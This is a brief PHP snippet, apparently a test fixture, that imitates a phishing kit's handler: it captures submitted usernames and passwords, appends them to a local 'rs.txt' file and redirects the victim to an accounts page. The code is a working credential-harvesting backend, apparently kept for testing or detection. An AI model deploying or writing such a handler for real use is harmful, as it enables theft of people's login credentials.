<?php
// a kit's handler appending the fields to a results file next to it
// (written for the tests, never run)
$row = $_POST['user'] . ':' . $_POST['passwd'] . "\n";
file_put_contents('rs.txt', $row, FILE_APPEND);
header('Location: https://accounts.example.com/');
